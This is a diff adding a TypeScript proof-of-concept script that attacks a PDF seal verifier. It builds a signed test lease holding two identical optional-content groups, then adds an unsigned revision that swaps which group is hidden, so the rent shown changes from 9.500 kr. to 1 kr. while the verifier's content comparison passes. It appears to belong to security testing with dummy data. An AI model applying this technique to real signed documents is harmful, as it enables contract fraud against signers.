@@ -1,0 +1,127 @@
+// O1: optional content swapped by identity under a comparison by content. A sealed document whose page 1 shows
+// "Husleje: 9.500 kr." in OCG A and hides "Husleje: 1 kr." in OCG B (/OCProperties /D /OFF [B]), A and B two
+// identical dictionaries (<< /Type /OCG /Name (Husleje) >>). A later revision (anyone's: no key) rewrites the
+// catalog with /D /OFF [A]: seal-modifications compares /OCProperties by content (rules.ts compareDicts: a key
+// without a rule that is not an IDENTITY_KEY passes when sameContent), and A and B have the same content, so the
+// revision changes nothing for sealcheck. Every reader decides visibility by the OCG's identity: B shows, A hides.
+//   npx tsx scripts/attack-s11/ocg-identity.ts <mode>
+// modes: honest (the sealed archive as it is); swap (the catalog's /D /OFF [B] -> [A]); resources (page 1's
+// /Resources /Properties moved to a new object naming the other OCG under each name: /ocA -> B, /ocB -> A);
+// swap-dss (swap, plus a DSS in the same revision: an "LTV" update as augment writes one).
+import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFString, StandardFonts } from "pdf-lib";
+import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
+import { buildWorkflowEvidence, evidenceAttachments } from "../generator/index.js";
+import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
+import { locateSignature, preparePades, sealPrepared } from "../generator/pdf.js";
+import { spawnSync } from "node:child_process";
+
+const mode = process.argv[2] ?? "swap";
+if (!["honest", "swap", "resources", "swap-dss"].includes(mode)) throw new Error(`mode: honest|swap|resources|swap-dss, not ${mode}`);
+
+/** The original the workflow's initiator uploads: page 1 with the rent in two optional-content groups. */
+async function ocgOriginal(): Promise<Uint8Array> {
+  const doc = await PDFDocument.create({ updateMetadata: false });
+  const ctx = doc.context;
+  const font = await doc.embedFont(StandardFonts.Helvetica);
+  const page = doc.addPage([595, 842]);
+  const a = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Husleje") }));
+  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Husleje") }));
+  const lines = [
+    "Lejekontrakt",
+    "",
+    "Udlejer: Sealcheck Test Ejendomme ApS",
+    "Lejer: Karen Test Jensen og Lars Test Nielsen",
+    "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
+  ];
+  const ops = [
+    ...lines.map((l, i) => `BT /F1 ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`),
+    "/OC /ocA BDC BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET EMC",
+    "/OC /ocB BDC BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC",
+    "BT /F1 12 Tf 60 606 Td ((Testdokument - ikke gyldigt)) Tj ET",
+  ];
+  page.node.set(PDFName.of("Contents"), ctx.register(ctx.flateStream(ops.join("\n"))));
+  page.node.set(PDFName.of("Resources"), ctx.obj({ Font: { F1: font.ref }, Properties: { ocA: a, ocB: b } }));
+  doc.catalog.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [a, b], D: { Order: [a, b], OFF: [b] } }));
+  return doc.save({ useObjectStreams: false });
+}
+
+const P = pki();
+const e = await buildWorkflowEvidence({ pki: P });
+const original = await ocgOriginal();
+const prepared = await preparePades({ originals: [original, ...e.originals.slice(1).map((o) => o.bytes)], attachments: evidenceAttachments(e) });
+// The broker's writer (iText 7) carries an original's optional content into the merged document; pdf-lib's
+// copyPages keeps the page's /Properties but not the catalog's /OCProperties, so it is put back before sealing.
+const pre = await loadForUpdate(prepared.bytes);
+const props = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Properties"), PDFDict);
+const A = props.get(PDFName.of("ocA")) as PDFRef;
+const B = props.get(PDFName.of("ocB")) as PDFRef;
+const ocProperties = (off: PDFRef) => pre.context.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: [off] } });
+const catalog0 = pre.catalog.clone(pre.context);
+catalog0.set(PDFName.of("OCProperties"), ocProperties(B));
+const rootRef = pre.context.trailerInfo.Root as PDFRef;
+// The signature dictionary (placeholders) is written anew in that update, under a new number that the widget and
+// /Perms name: a seal covers the revision that first defines it (the broker's file is one revision).
+const sigDict = pre.context.lookup(PDFRef.of(prepared.sigObject)) as PDFDict;
+const sigRef = pre.context.nextRef();
+const widgetRef = pre.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray).get(0) as PDFRef;
+const widget = (pre.context.lookup(widgetRef) as PDFDict).clone(pre.context);
+widget.set(PDFName.of("V"), sigRef);
+catalog0.set(PDFName.of("Perms"), pre.context.obj({ DocMDP: sigRef }));
+const withOc = appendIncrementalUpdate(prepared.bytes, {
+  objects: [
+    { num: rootRef.objectNumber, body: catalog0 },
+    { num: widgetRef.objectNumber, body: widget },
+    { num: sigRef.objectNumber, body: sigDict },
+  ].sort((x, y) => x.num - y.num),
+}).bytes;
+const sealed = sealPrepared(locateSignature(withOc, sigRef.objectNumber), P);
+
+let out = sealed;
+if (mode !== "honest") {
+  const doc = await loadForUpdate(sealed);
+  const ctx = doc.context;
+  const objects: { num: number; body: PDFDict }[] = [];
+  if (mode === "swap" || mode === "swap-dss") {
+    const c = doc.catalog.clone(ctx);
+    c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: [A] } }));
+    if (mode === "swap-dss") {
+      const cert = ctx.register(ctx.stream(P.sealRoot.der));
+      objects.push({ num: cert.objectNumber, body: ctx.lookup(cert) as never });
+      c.set(PDFName.of("DSS"), ctx.obj({ Type: "DSS", Certs: ctx.obj([cert]) as PDFArray }));
+    }
+    objects.push({ num: rootRef.objectNumber, body: c });
+  } else {
+    const page = doc.getPage(0);
+    const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
+    res.set(PDFName.of("Properties"), ctx.obj({ ocA: B, ocB: A }));
+    const resRef = ctx.register(res);
+    const p = page.node.clone(ctx);
+    p.set(PDFName.of("Resources"), resRef);
+    objects.push({ num: resRef.objectNumber, body: res }, { num: page.ref.objectNumber, body: p });
+  }
+  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
+}
+
+const dir = work(`s11-ocg-${mode}`);
+const file = save(dir, "archive.pdf", out);
+console.log(`wrote ${file} (${mode}); sealed revision ends at ${sealed.length}, file ${out.length} bytes`);
+const v = verify(file);
+show(mode, v);
+const m = v.report.checks.find((c) => c.id === "seal-modifications");
+console.log(`   seal-modifications ${m?.status}: ${m?.message.slice(0, 300)}`);
+const sig = tool("pdfsig", [file])
+  .split("\n")
+  .filter((l) => /Signature #|Validation|Total document/.test(l));
+console.log(`== pdfsig: ${sig.join(" | ")}`);
+const rent = (t: string) =>
+  t
+    .split("\n")
+    .filter((l) => /Husleje/.test(l))
+    .map((l) => l.trim())
+    .join(" / ") || "(no rent line)";
+console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
+console.log(`== qpdf --check: ${tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]}`);
+const j = spawnSync("node", ["/tmp/a16w/judges/judge.mjs", file], { encoding: "utf8", env: { ...process.env, N: "400" } });
+for (const l of `${j.stdout}${j.stderr}`.split("\n").filter((x) => /PDFium|pdf.js|p1:/.test(x))) console.log(`== ${l.trim().slice(0, 260)}`);
+tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "50", "-png", file, `${dir}/page`]);
+console.log(`   page 1 rendered by pdftoppm: ${dir}/page-1.png`);
